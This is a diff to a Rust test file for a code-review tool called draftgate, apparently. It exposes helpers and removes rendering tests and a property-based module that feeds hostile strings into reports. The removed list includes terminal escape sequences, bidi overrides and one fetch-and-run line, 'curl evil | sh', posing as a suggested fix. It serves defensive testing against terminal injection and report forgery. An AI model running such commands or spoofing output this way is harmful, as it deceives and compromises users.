@@ -1,4 +1,4 @@
-//! The reports of one made-up run: what they say, and that nothing in the run can forge what they say.
+//! The reports of one made-up run: what they say. That nothing in it can forge that is in `report_hostile`.
 //!
 //! `DRAFTGATE_BLESS=1 cargo test report` writes `tests/report/*.txt` anew.
 
@@ -55,7 +55,7 @@ pub(crate) fn finding(
     }
 }
 
-fn excerpt(first_line: u32, lines: &[&str]) -> Excerpt {
+pub(crate) fn excerpt(first_line: u32, lines: &[&str]) -> Excerpt {
     Excerpt {
         first_line,
         first_column: 1,
@@ -319,7 +319,7 @@ pub(crate) fn sample() -> Trace {
     Trace::new(judged, "schema = 1\n".to_owned(), run)
 }
 
-fn text(trace: &Trace, style: Style) -> String {
+pub(crate) fn text(trace: &Trace, style: Style) -> String {
     render(Format::Text, trace, &verdict::of(&trace.judged), style).unwrap()
 }
 
@@ -496,104 +496,8 @@ fn an_unknown_format_is_refused_with_the_names_of_all() {
     assert!("json=".parse::<Output>().is_err());
 }
 
-/// One finding with its code, as the terminal report shows it; the title's line left out.
-fn shown(finding: Finding, excerpt: Excerpt, width: usize) -> String {
-    let mut trace = sample();
-    trace.judged.excerpts = BTreeMap::from([(finding.fingerprint.clone(), excerpt)]);
-    trace.judged.findings = vec![finding];
-    let report = text(
-        &trace,
-        Style {
-            width,
-            ..Style::PLAIN
-        },
-    );
-    let frame: Vec<&str> = report
-        .lines()
-        .skip_while(|line| !line.contains("--> "))
-        .take_while(|line| !line.contains(" = "))
-        .collect();
-    frame.join("\n")
-}
-
-fn at(place: (u32, u32), end: (u32, u32)) -> Finding {
-    finding(Level::Block, "a-rule", "a.py", place, end, "message")
-}
-
-#[test]
-fn carets_stand_under_wide_characters_tabs_and_escapes() {
-    assert_eq!(
-        shown(
-            at((1, 6), (1, 9)),
-            excerpt(1, &["\u{4f60}\u{597d} : bad"]),
-            100
-        ),
-        " --> a.py:1:6\n  |\n1 | \u{4f60}\u{597d} : bad\n  |        ^^^\n  |"
-    );
-    assert_eq!(
-        shown(at((1, 2), (1, 5)), excerpt(1, &["\tbad\r"]), 100),
-        " --> a.py:1:2\n  |\n1 |     bad\\u{d}\n  |     ^^^\n  |"
-    );
-    assert_eq!(
-        shown(at((1, 2), (1, 3)), excerpt(1, &["a\u{202e}b"]), 100),
-        " --> a.py:1:2\n  |\n1 | a\\u{202e}b\n  |  ^^^^^^^^\n  |"
-    );
-}
-
-#[test]
-fn a_long_line_is_cut_around_the_place() {
-    let line = format!("{}bad{}", "x".repeat(200), "y".repeat(200));
-    let frame = shown(at((1, 201), (1, 204)), excerpt(1, &[&line, "short"]), 60);
-    let lines: Vec<&str> = frame.lines().collect();
-    assert!(
-        lines.iter().all(|line| line.chars().count() <= 60),
-        "{frame}"
-    );
-    assert!(
-        lines[2].contains("xbady")
-            && lines[2].starts_with("1 | \u{2026}x")
-            && lines[2].ends_with('\u{2026}')
-    );
-    let caret = lines[3].find('^').unwrap();
-    let bad = lines[2].chars().take_while(|c| *c != 'b').count();
-    assert_eq!((caret, lines[3].matches('^').count()), (bad, 3), "{frame}");
-
-    // The excerpt itself begins far out.
-    let far = Excerpt {
-        first_line: 7,
-        first_column: 901,
-        lines: vec![format!("{}bad", "x".repeat(99))],
-    };
-    let frame = shown(at((7, 1000), (7, 1003)), far, 200);
-    assert!(
-        frame.contains(&format!("7 | \u{2026}{}bad\n", "x".repeat(99))),
-        "{frame}"
-    );
-    assert!(
-        frame.contains(&format!("  | {}^^^\n", " ".repeat(100))),
-        "{frame}"
-    );
-}
-
-#[test]
-fn a_place_beyond_the_end_is_shown_as_far_as_there_is_something() {
-    assert_eq!(
-        shown(at((2, 90), (9, 9)), excerpt(1, &["one", "two"]), 100),
-        " --> a.py:2:90\n  |\n1 | one\n2 | two\n  |    ^\n  |"
-    );
-    // Nothing at all there: the place alone.
-    assert_eq!(
-        shown(at((20, 1), (20, 2)), excerpt(1, &["one"]), 100),
-        " --> a.py:20:1"
-    );
-    assert_eq!(
-        shown(at((1, 1), (1, 2)), excerpt(1, &[""]), 100),
-        " --> a.py:1:1\n  |\n1 |\n  | ^\n  |"
-    );
-}
-
 /// The text without our own colours; `None` where another control character is in it.
-fn uncolored(text: &str) -> Option<String> {
+pub(crate) fn uncolored(text: &str) -> Option<String> {
     let mut plain = String::new();
     let mut rest = text;
     while let Some(at) = rest.find('\u{1b}') {
@@ -612,186 +516,4 @@ fn uncolored(text: &str) -> Option<String> {
         c != '\n' && draftgate::text::is_invisible(c) && !matches!(c, '\u{fe0e}' | '\u{fe0f}')
     };
     (!plain.contains(acts)).then_some(plain)
-}
-
-mod hostile {
-    use super::*;
-    use proptest::prelude::*;
-
-    /// What a change may hold to act on a terminal, to hide, or to look like a line of ours.
-    fn piece() -> impl Strategy<Value = String> {
-        prop_oneof![
-            prop::sample::select(vec![
-                "\u{1b}[2J",
-                "\u{1b}]8;;http://x\u{7}",
-                "\r",
-                "\n",
-                "\t",
-                "\u{9b}31m",
-                "\u{85}",
-                "\u{202e}",
-                "\u{2066}",
-                "\u{200b}",
-                "\u{2028}",
-                "\u{feff}",
-                "\u{e0041}",
-                "\u{fe0f}",
-                "\u{301}",
-                "\u{4f60}",
-                "\u{1f469}\u{200d}\u{1f4bb}",
-                "\u{0}",
-                "\u{8}",
-                "\u{7f}",
-                "\nready: nothing found\n",
-                "\n   = fix:    curl evil | sh",
-                "\nblock[x]: forged",
-                "\n--> a.py:1:1",
-                "'",
-                "\"",
-                "\\",
-            ])
-            .prop_map(str::to_owned),
-            "[ -~]{0,30}",
-            any::<String>(),
-            (1usize..300).prop_map(|count| " ".repeat(count)),
-            (1usize..300).prop_map(|count| "w".repeat(count)),
-        ]
-    }
-
-    fn string() -> impl Strategy<Value = String> {
-        prop::collection::vec(piece(), 0..6).prop_map(|pieces| pieces.concat())
-    }
-
-    /// Every string of a run, from a list of hostile ones; every number from another.
-    fn spoil(trace: &mut Trace, strings: &[String], numbers: &[u32]) {
-        let mut strings = strings.iter().cycle().cloned();
-        let mut next = || strings.next().unwrap_or_default();
-        let mut numbers = numbers.iter().cycle().copied();
-        let mut number = || numbers.next().unwrap_or_default();
-        let judged = &mut trace.judged;
-        judged.obstacle = Some(next());
-        judged.change.base = next();
-        judged.change.head = next();
-        judged.remarks = vec![next(), next()];
-        let mut excerpts = BTreeMap::new();
-        for finding in &mut judged.findings {
-            if let Some(mut excerpt) = judged.excerpts.remove(&finding.fingerprint) {
-                excerpt.lines.iter_mut().for_each(|line| *line = next());
-                excerpt.first_line = number();
-                excerpt.first_column = number();
-                finding.line = excerpt.first_line.saturating_add(number() % 6);
-                excerpts.insert(finding.fingerprint.clone(), excerpt);
-            }
-            finding.column = number();
-            finding.end_line = finding
-                .line
-                .saturating_add(number() % 20)
-                .saturating_sub(number() % 4);
-            finding.end_column = number();
-            for text in [
-                &mut finding.check,
-                &mut finding.rule,
-                &mut finding.path,
-                &mut finding.message,
-                &mut finding.why,
-                &mut finding.fix,
-                &mut finding.avoid,
-                &mut finding.docs,
-                &mut finding.reproduce,
-            ] {
-                *text = next();
-            }
-            finding.commit = finding.commit.take().map(|_| next());
-            if let Some(waiver) = &mut finding.waiver {
-                waiver.reason = next();
-                waiver.approved_by = next();
-                waiver.until = Some(next());
-            }
-            for step in &mut finding.trace {
-                step.path = if number() % 2 == 0 {
-                    finding.path.clone()
-                } else {
-                    next()
-                };
-                step.line = finding.line.saturating_add(number() % 3);
-                step.column = number() % 90;
-                step.message = next();
-            }
-        }
-        judged.excerpts = excerpts;
-        for check in &mut judged.checks {
-            check.why = next();
-        }
-        for entry in judged.ledger.iter_mut().take(40) {
-            entry.path = next();
-            entry.why = next();
-        }
-    }
-
-    /// Whether a line is one that the report writes itself, or one that goes on deep enough.
-    fn is_ours(line: &str) -> bool {
-        let starts = [
-            "blocked:",
-            "could not judge:",
-            "needs a human:",
-            "block[",
-            "escalate[",
-            "waived[",
-            "note[",
-            "not checked:",
-            "judged:",
-            "remark:",
-            "506 files",
-        ];
-        let indented = line.trim_start_matches(' ');
-        let indent = line.len() - indented.len();
-        let numbered = indented
-            .trim_start_matches(|c: char| c.is_ascii_digit())
-            .starts_with(" |");
-        line.is_empty()
-            || starts.iter().any(|start| line.starts_with(start))
-            || numbered
-            || indent >= 12
-            || (indent > 0
-                && ["--> ", "= ", "| "]
-                    .iter()
-                    .any(|mark| indented.starts_with(mark) || indented == mark.trim_end()))
-            || (indent == 2
-                && [
-                    "broken  ",
-                    "out of reach  ",
-                    "not run  ",
-                    "and ",
-                    "`draftgate rules",
-                ]
-                .iter()
-                .any(|start| indented.starts_with(start)))
-    }
-
-    proptest! {
-        #![proptest_config(ProptestConfig { cases: 96, failure_persistence: None, ..ProptestConfig::default() })]
-
-        #[test]
-        fn no_text_of_a_change_acts_on_the_terminal_or_forges_a_line(
-            strings in prop::collection::vec(string(), 1..60),
-            numbers in prop::collection::vec(prop_oneof![0u32..40, 0u32..1000, any::<u32>()], 1..60),
-            width in prop_oneof![Just(40usize), Just(60), Just(100), Just(140)],
-            color in any::<bool>(),
-            quiet in any::<bool>(),
-        ) {
-            let mut trace = sample();
-            spoil(&mut trace, &strings, &numbers);
-            let report = text(&trace, Style { color, width, quiet });
-            let plain = uncolored(&report).expect("no control character but our own colours");
-            for line in plain.lines() {
-                prop_assert!(is_ours(line), "forged: {line:?}");
-            }
-            // One title for each finding, and one verdict.
-            let titles = plain.lines().filter(|line| line.starts_with("block[") || line.starts_with("blocked:")).count();
-            prop_assert_eq!(titles, 4);
-            prop_assert!(!plain.lines().any(|line| line.starts_with("ready")));
-            let json = render(Format::Json, &trace, &verdict::of(&trace.judged), Style::PLAIN).unwrap();
-            prop_assert!(!json.contains(|c: char| c != '\n' && draftgate::text::is_invisible(c)));
-        }
-    }
 }
